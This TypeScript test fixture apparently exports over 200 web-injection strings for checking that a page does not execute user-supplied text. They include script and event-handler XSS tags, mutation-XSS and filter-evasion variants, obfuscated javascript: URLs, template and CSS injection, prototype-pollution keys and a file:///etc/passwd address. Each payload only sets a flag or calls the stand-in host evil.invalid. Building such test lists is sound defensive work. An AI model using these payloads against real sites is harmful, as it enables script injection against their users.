// Texts that are harmful if a page uses them as markup, URL, style, template or key. Each text sets `pwned`, requests a
// host outside the test, or opens a dialog, so that tests can detect the harm.

const FOREIGN = "evil.invalid";

const DO = `window.pwned=1;alert(1)`;
const CALL = `window.pwned=1`;

const TAGS = [
  `<script>${DO}</script>`,
  `<script src=//${FOREIGN}/1.js></script>`,
  `<SCRIPT\t>${DO}</SCRIPT >`,
  `<scr<script>ipt>${DO}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=//${FOREIGN}/1.png>`,
  `<IMG """><img src=x: onerror="${CALL}">`,
  `<img/src=x/onerror=${CALL}>`,
  `<image href=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${CALL}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math><a href="javascript:${CALL}">x</a></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${CALL}>"></iframe>`,
  `<iframe src=//${FOREIGN}/frame></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data=//${FOREIGN}/o></object>`,
  `<embed src="data:text/html,<script>${DO}</script>">`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<body onload=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}/">`,
  `<base href=//${FOREIGN}/>`,
  `<link rel=stylesheet href=//${FOREIGN}/1.css>`,
  `<link rel=preload as=image href=//${FOREIGN}/p.png>`,
  `<style>@import "//${FOREIGN}/2.css";</style>`,
  `<style>*{background:url(//${FOREIGN}/bg)}</style>`,
  `<template><script>${DO}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${CALL}" form=x>x</button>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="//${FOREIGN}/" ping="//${FOREIGN}/ping">x</a>`,
  `<linewire-bets partner=x api=//${FOREIGN}></linewire-bets>`,
  `<slot name=fallback onslotchange=${CALL}></slot>`,
  `<p style="animation:x" onanimationstart=${CALL}>x</p>`,
  `<x contenteditable autofocus onfocus=${CALL}>x</x>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--<img src="--><img src=x onerror=${CALL}>">`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml-stylesheet href="//${FOREIGN}/3.css"?>`,
  `<xmp><p title="</xmp><svg/onload=${CALL}>">`,
];

/** Prefixes that close the surrounding HTML context before a tag begins. */
const ENDS = [
  `">`,
  `'>`,
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  "</template>",
  "`>",
  "</svg>",
];
const ENDED = ENDS.flatMap((end) => [`${end}<img src=x onerror=${CALL}>`, `${end}<script>${DO}</script>`]);

const EVENTS = [
  "onclick",
  "onmouseover",
  "onfocus",
  "onpointerenter",
  "onload",
  "onerror",
  "ontoggle",
  "onbeforetoggle",
];
const ATTRIBUTES = EVENTS.flatMap((event) => [`" ${event}="${CALL}" x="`, `' ${event}='${CALL}' x='`]).concat([
  `" autofocus tabindex=1 onfocus="${CALL}`,
  `" style="background:url(//${FOREIGN}/attr)`,
  `" href="javascript:${CALL}`,
  `x onerror=${CALL} `,
]);

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\tjavascript:",
  "\u0001javascript:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "java\0script:",
  "javascript\t:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A&#x61vascript:",
  "\\u006aavascript:",
  "%6aavascript:",
  "ｊavascript:",
  "view-source:javascript:",
  "feed:javascript:",
  "http://x\njavascript:",
];
const ADDRESSES = SCHEMES.map((scheme) => `${scheme}${CALL}`).concat([
  `javascript://%0a${CALL}`,
  `javascript://https://a.example/%0a${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${DO}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `blob:https://${FOREIGN}/1`,
  `filesystem:https://${FOREIGN}/temporary/1`,
  `about:blank`,
  `file:///etc/passwd`,
  `intent://scan/#Intent;scheme=zxing;end`,
  `https:javascript:${CALL}`,
  `http:///javascript:${CALL}`,
  `https://${FOREIGN}"onclick="${CALL}`,
  `\\\\${FOREIGN}\\x`,
]);

const TEMPLATES = [
  "${window.pwned=1}",
  "`+(window.pwned=1)+`",
  `{{constructor.constructor('${CALL}')()}}`,
  `{{7*7}}{%print(1)%}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `[[${CALL}]]`,
  `';${CALL};//`,
  `";${CALL};//`,
  `\\";${CALL};//`,
  `);${CALL};(`,
  `*/${CALL}/*`,
  `\u2028${CALL}\u2029`,
];

const STYLES = [
  `red;background:url(//${FOREIGN}/s1)`,
  `url(//${FOREIGN}/s2)`,
  `URL("//${FOREIGN}/s3")`,
  `u\\72l(//${FOREIGN}/s4)`,
  `image-set("//${FOREIGN}/s5" 1x)`,
  `-webkit-image-set(url(//${FOREIGN}/s6) 1x)`,
  `cross-fade(url(//${FOREIGN}/s7),url(x))`,
  `var(--x,url(//${FOREIGN}/s8))`,
  `red}*{background:url(//${FOREIGN}/s9)}`,
  `red}@import "//${FOREIGN}/s10";{`,
  `red/*`,
  `expression(${CALL})`,
  `url(javascript:${CALL})`,
  `;-moz-binding:url(//${FOREIGN}/x.xml#a)`,
  `</style><img src=x onerror=${CALL}>`,
  `100000000px`,
  `fixed;position:fixed;inset:0;z-index:99999`,
  `"\\a background:url(//${FOREIGN}/s11)`,
];

const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "__defineGetter__",
  "hasOwnProperty",
  "toString",
  "valueOf",
  "then",
  "length",
  '{"__proto__":{"polluted":1}}',
  "innerHTML",
  "srcdoc",
];

const UNICODE = [
  "\u202Egnp.exe",
  "\u2066\u202E\u2069 7+",
  "\u200B\u200D\uFEFF",
  "\uD800",
  "\uDC00\uD800",
  "\0",
  "\u0000<img src=x onerror=window.pwned=1>",
  "＜img src=x onerror=window.pwned=1＞",
  "%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E",
  "&lt;img src=x onerror=window.pwned=1&gt;",
  "&#60;script&#62;window.pwned=1&#60;/script&#62;",
  "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
  "\u0130\u0131\uFB00\u1E9E",
  `Z${"\u0300\u0301\u0302\u0316\u0317".repeat(40)}`,
  "👨‍👩‍👧‍👦🏳️‍🌈".repeat(8),
  "\u001B[31mred\u0007",
];

const VALUES = ["NaN", "Infinity", "-0", "1e309", "null", "undefined", "true", "", " ", "0", "-1", "{}", "[]"];

/** More than 200 texts, each short enough for a name. */
export const PAYLOADS: readonly string[] = [
  ...TAGS,
  ...ENDED,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...TEMPLATES,
  ...STYLES,
  ...NAMES,
  ...UNICODE,
  ...VALUES,
].map((text) => text.slice(0, 300));

/** The most harmful text of each kind, for fields that are tested one by one. */
export const WORST: readonly string[] = [
  `"><img src=x onerror=${CALL}>`,
  `</style></script><script>${DO}</script>`,
  `JaVa\tScRiPt:${CALL}`,
  `data:text/html,<script>${DO}</script>`,
  `red}*{background:url(//${FOREIGN}/w)}`,
  "__proto__",
  "",
  `<img src=x onerror=${CALL}>${"A".repeat(100_000)}`,
];
